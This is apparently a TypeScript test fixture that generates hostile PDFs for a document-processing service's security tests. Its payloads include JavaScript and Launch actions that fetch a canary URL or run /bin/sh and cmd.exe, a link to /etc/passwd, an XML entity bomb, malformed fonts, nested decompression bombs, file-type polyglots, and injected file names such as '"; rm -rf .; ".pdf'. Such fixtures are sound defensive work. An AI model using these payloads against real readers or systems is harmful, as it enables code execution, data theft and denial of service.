import zlib from 'node:zlib';
import { onePage, type PdfObject } from './pdf-maker.ts';
import { eitherWay, type HostileFile } from './hostile-file.ts';

const stream = (text: string, dictionary = ''): PdfObject => ({ dictionary, stream: Buffer.from(text, 'latin1') });
const zipEnd = Buffer.concat([Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)]);
const garbage = Buffer.from(Array.from({ length: 3_000 }, (_, index) => (index * 31 + 7) & 255));

/** Files that want something run or fetched, fonts that are programs gone wrong, and files that are two things at once. `mark`: a file that none may make. */
export const activeContent = (mark: string): HostileFile[] =>
  [
    {
      what: 'JavaScript at opening, on the page and in a field',
      make: (canary: string) =>
        onePage(
          {
            catalogue: `/OpenAction << /S /JavaScript /JS (app.launchURL('${canary}'); require('fs').writeFileSync('${mark}', 'x')) >> /AcroForm << /Fields [6 0 R] /XFA (<x/>) >>`,
            page: `/AA << /O << /S /JavaScript /JS (this.submitForm('${canary}')) >> >> /Annots [6 0 R]`,
          },
          [
            `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /Rect [10 10 90 30] /AA << /C << /S /JavaScript /JS (event.value = 1) >> >> >>`,
          ],
        ),
      ends: { completed: true as const },
    },
    {
      what: 'a program to launch, a file to send, a page to fetch',
      make: (canary: string) =>
        onePage(
          {
            catalogue: `/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c echo x > ${mark}) >> /Next << /S /URI /URI (${canary}) >> >>`,
            page: '/Annots [6 0 R 7 0 R]',
          },
          [
            `<< /Type /Annot /Subtype /Link /Rect [10 10 90 30] /A << /S /GoToR /F (file:///etc/passwd) >> >>`,
            `<< /Type /Annot /Subtype /Link /Rect [10 40 90 60] /A << /S /URI /URI (javascript:fetch\\('${canary}'\\)) >> >>`,
          ],
        ),
      ends: { completed: true as const },
    },
    {
      what: 'a stream that lies elsewhere',
      make: (canary: string) => onePage({ content: { dictionary: `/F << /FS /URL /F (${canary}) >>`, stream: Buffer.alloc(0) } }),
    },
    {
      what: 'metadata that unfold to a thousand million words',
      make: (canary: string) => {
        const levels = Array.from({ length: 9 }, (_, level) => `<!ENTITY a${level + 1} "${`&a${level};`.repeat(10)}">`).join('');
        return onePage({ catalogue: '/Metadata 6 0 R' }, [
          stream(
            `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "words"><!ENTITY b SYSTEM "${canary}">${levels}]><x>&a9;&b;</x>`,
            '/Type /Metadata /Subtype /XML',
          ),
        ]);
      },
    },
    {
      what: 'a font program that is noise',
      make: () =>
        onePage({ content: stream('BT /F2 24 Tf 72 700 Td (Hello) Tj ET'), resources: '/Font << /F2 6 0 R >>' }, [
          '<< /Type /Font /Subtype /TrueType /BaseFont /AAAAAA+Noise /FirstChar 32 /LastChar 33 /Widths [1e9 -1e9] /FontDescriptor 7 0 R /Encoding 8 0 R >>',
          '<< /Type /FontDescriptor /FontName /AAAAAA+Noise /Flags 4 /FontFile2 9 0 R /FontBBox [0 0 1e9 1e9] >>',
          '<< /Type /Encoding /Differences [32 /no /such /name 4294967295 /x] >>',
          { dictionary: `/Length1 4294967295`, stream: Buffer.concat([Buffer.from([0, 1, 0, 0, 0xff, 0xff]), garbage]) },
        ]),
    },
    {
      what: 'a font whose sign draws itself',
      make: () =>
        onePage({ content: stream('BT /F2 24 Tf 72 700 Td (a) Tj ET'), resources: '/Font << /F2 6 0 R >>' }, [
          '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 7 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [1] /Resources << /Font << /F2 6 0 R >> >> >>',
          stream('1 0 d0 BT /F2 1 Tf (aa) Tj ET'),
        ]),
    },
    {
      what: 'a table of characters that names every one four thousand million times',
      make: () =>
        onePage({ content: stream('BT /F2 24 Tf 72 700 Td <0001> Tj ET'), resources: '/Font << /F2 6 0 R >>' }, [
          '<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [8 0 R] /ToUnicode 7 0 R >>',
          stream(
            'begincmap 1 begincodespacerange <00000000> <ffffffff> endcodespacerange 2 beginbfrange <00000000> <ffffffff> <0041> <00000000> <ffffffff> <0042> endbfrange endcmap',
          ),
          '<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> /W [0 4294967295 500] >>',
        ]),
    },
    {
      what: 'a file inside of it that is packed a thousand times',
      make: () =>
        onePage({ catalogue: '/Names << /EmbeddedFiles << /Names [(../../x) 6 0 R] >> >>' }, [
          '<< /Type /Filespec /F (../../../../tmp/x) /EF << /F 7 0 R >> >>',
          { dictionary: `/Type /EmbeddedFile /Filter [${'/FlateDecode '.repeat(1_000)}]`, stream: zlib.deflateSync(Buffer.alloc(1_000)) },
        ]),
    },
    { what: 'a PDF that is a ZIP archive too', make: () => Buffer.concat([onePage({}), zipEnd]), ends: { refused: 'file_type_ambiguous' } },
    {
      what: 'a web page that is a PDF too',
      make: () => Buffer.concat([Buffer.from('<html><script>alert(1)</script>'), onePage({})]),
      ends: { refused: 'file_type_ambiguous' },
    },
    {
      what: 'a program that calls itself a PDF',
      make: () => Buffer.concat([Buffer.from('MZ'), garbage]),
      ends: { refused: 'file_type_mismatch' },
    },
    ...[
      '../../../../tmp/escaped.pdf',
      '"; rm -rf .; ".pdf',
      'exam\u202Efdp.exe.pdf',
      'nul\u0000.pdf',
      '%2e%2e%2fescaped.pdf',
      '<img src=x onerror=alert(1)>.pdf',
    ].map((name) => ({
      what: `the name ${JSON.stringify(name)}`,
      name,
      make: () => onePage({}),
      ends: { completed: true as const },
    })),
  ].map((file) => ({ name: 'hostile.pdf', ends: eitherWay, ...file }));
